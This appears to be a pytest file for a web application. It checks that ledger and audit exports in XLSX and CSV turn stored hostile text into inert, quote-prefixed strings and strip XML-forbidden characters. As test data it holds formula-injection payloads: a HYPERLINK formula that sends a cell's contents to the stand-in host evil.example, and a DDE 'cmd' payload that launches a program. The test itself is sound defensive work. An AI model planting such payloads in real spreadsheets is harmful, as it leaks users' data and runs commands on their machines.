"""Text already stored, however hostile, comes out of every export as inert text: formulas do
not run in the office's spreadsheet, and characters XML forbids no longer make exports fail."""

import csv
import io

from openpyxl import load_workbook

from app.extensions import db
from app.models import LedgerItem
from app.services.shared import audit

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我查看")'
HOSTILE = {
    "title": FORMULA,
    "measures": "@SUM(1+1)\x01已整改",
    "responsible_leader": "-2+3",
    "responsible_department": "\t=cmd|' /C calc'!A0\x0b",
}


def _store_hostile_text(app, w) -> int:
    """As if typed before input was checked: written straight to the database."""
    with app.app_context():
        item = db.session.get(LedgerItem, w["finding"])
        for name, value in HOSTILE.items():
            setattr(item, name, value)
        audit.record(
            w["supervisor"],
            "ledger.status",
            "ledger_item",
            item.id,
            before={"title": "x\x01"},
            after={"title": FORMULA},
            unit_id=item.unit_id,
        )
        db.session.commit()
        return item.id


def _cells(data: bytes) -> list:
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    return [cell for row in sheet.iter_rows() for cell in row]


def test_ledger_exports_hold_formulas_as_text_and_drop_forbidden_characters(ledger_world, login_as, app):
    w = ledger_world
    _store_hostile_text(app, w)
    sup = login_as("supervisor", username="sup2")
    xlsx = sup.get(f"/ledger/campaigns/{w['campaign']}/export.xlsx")
    assert xlsx.status_code == 200
    cells = _cells(xlsx.data)
    by_value = {c.value: c for c in cells if isinstance(c.value, str)}
    for text in (FORMULA, "@SUM(1+1)已整改", "\t=cmd|' /C calc'!A0"):
        assert by_value[text].data_type == "s" and by_value[text].quotePrefix, text
    assert by_value["-2+3"].quotePrefix
    assert not any(c.data_type == "f" for c in cells)

    resp = sup.get(f"/ledger/campaigns/{w['campaign']}/export.csv?source=supervision")
    assert resp.status_code == 200
    _, row = list(csv.reader(io.StringIO(resp.data.decode("utf-8-sig"))))
    assert row[3] == "'" + FORMULA and row[5] == "'@SUM(1+1)已整改"
    assert row[6] == "'-2+3" and row[7] == "'\t=cmd|' /C calc'!A0"
    assert not any(ch in resp.data.decode("utf-8-sig") for ch in "\x01\x0b")


def test_audit_exports_work_with_forbidden_characters_in_stored_events(ledger_world, login_as, app):
    w = ledger_world
    _store_hostile_text(app, w)
    sup = login_as("supervisor", username="sup2")
    xlsx = sup.get(f"/audit/campaigns/{w['campaign']}/export.xlsx")
    assert xlsx.status_code == 200
    assert not any(c.data_type == "f" for c in _cells(xlsx.data))
    text = sup.get(f"/audit/campaigns/{w['campaign']}/export.csv").data.decode("utf-8-sig")
    assert "\x01" not in text and "HYPERLINK" in text
